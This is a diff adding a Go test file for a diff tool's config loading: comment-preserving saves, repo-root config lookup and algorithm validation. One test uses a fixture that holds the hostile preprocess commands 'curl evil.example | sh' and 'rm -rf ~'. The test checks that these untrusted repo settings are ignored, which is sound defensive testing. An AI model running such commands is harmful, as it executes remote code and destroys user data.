@@ -0,0 +1,148 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/titobsala/Diffbubble/git"
+)
+
+func TestSaveUserSetting(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+
+	path := UserConfigPath()
+	if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+		t.Fatal(err)
+	}
+	original := "# my settings\ntheme: dracula # favourite\n"
+	if err := os.WriteFile(path, []byte(original), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	ws := Whitespace{IgnoreAll: true, IgnoreCRAtEOL: true}
+	if err := SaveUserSetting("whitespace", ws); err != nil {
+		t.Fatalf("SaveUserSetting() error = %v", err)
+	}
+
+	data, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(string(data), "# my settings") || !strings.Contains(string(data), "# favourite") {
+		t.Errorf("comments were not preserved:\n%s", data)
+	}
+
+	cfg, err := Load(t.TempDir())
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+	if cfg.Theme != "dracula" {
+		t.Errorf("Theme = %q, want dracula", cfg.Theme)
+	}
+	if cfg.Whitespace != ws {
+		t.Errorf("Whitespace = %+v, want %+v", cfg.Whitespace, ws)
+	}
+
+	// Saving again replaces the value instead of duplicating the key
+	if err := SaveUserSetting("whitespace", Whitespace{}); err != nil {
+		t.Fatalf("SaveUserSetting() error = %v", err)
+	}
+	data, _ = os.ReadFile(path)
+	if n := strings.Count(string(data), "whitespace:"); n != 1 {
+		t.Errorf("whitespace key written %d times:\n%s", n, data)
+	}
+}
+
+func TestSaveUserSettingNewFile(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+
+	if err := SaveUserSetting("whitespace", Whitespace{IgnoreChange: true}); err != nil {
+		t.Fatalf("SaveUserSetting() error = %v", err)
+	}
+
+	cfg, err := Load(t.TempDir())
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+	if !cfg.Whitespace.IgnoreChange {
+		t.Errorf("Whitespace.IgnoreChange = false, want true")
+	}
+}
+
+func TestLoadIgnoresRepoPreprocess(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	path := UserConfigPath()
+	if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte("preprocess:\n  \"*.json\": \"jq .\"\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	repo := t.TempDir()
+	repoConfig := "theme: dracula\npreprocess:\n  \"*.json\": \"curl evil.example | sh\"\n  \"*.txt\": \"rm -rf ~\"\n"
+	if err := os.WriteFile(RepoConfigPath(repo), []byte(repoConfig), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	cfg, err := Load(repo)
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+	if cfg.Theme != "dracula" {
+		t.Errorf("Theme = %q, want the repo's dracula", cfg.Theme)
+	}
+	if len(cfg.Preprocess) != 1 || cfg.Preprocess["*.json"] != "jq ." {
+		t.Errorf("Preprocess = %v, want only the user's command", cfg.Preprocess)
+	}
+}
+
+func TestLoadFromRepoRoot(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	root := t.TempDir()
+	nested := filepath.Join(root, "src", "api")
+	if err := os.MkdirAll(nested, 0755); err != nil {
+		t.Fatal(err)
+	}
+
+	if got, want := RepoConfigPath(root), filepath.Join(root, ".diffbubble.yml"); got != want {
+		t.Errorf("RepoConfigPath() = %q, want %q", got, want)
+	}
+	if err := os.WriteFile(RepoConfigPath(root), []byte("theme: dracula\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	// Only the root's config applies, not one in the directory started from
+	if err := os.WriteFile(RepoConfigPath(nested), []byte("theme: light\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	t.Chdir(nested)
+
+	cfg, err := Load(root)
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+	if cfg.Theme != "dracula" {
+		t.Errorf("Theme = %q, want the root config's dracula", cfg.Theme)
+	}
+}
+
+func TestValidateAlgorithm(t *testing.T) {
+	for _, algorithm := range git.DiffAlgorithms {
+		cfg := DefaultConfig()
+		cfg.Algorithm = algorithm
+		cfg.Validate()
+		if cfg.Algorithm != algorithm {
+			t.Errorf("Validate() changed algorithm %q to %q", algorithm, cfg.Algorithm)
+		}
+	}
+
+	cfg := DefaultConfig()
+	cfg.Algorithm = "fastest"
+	cfg.Validate()
+	if cfg.Algorithm != "" {
+		t.Errorf("Validate() kept unknown algorithm %q", cfg.Algorithm)
+	}
+}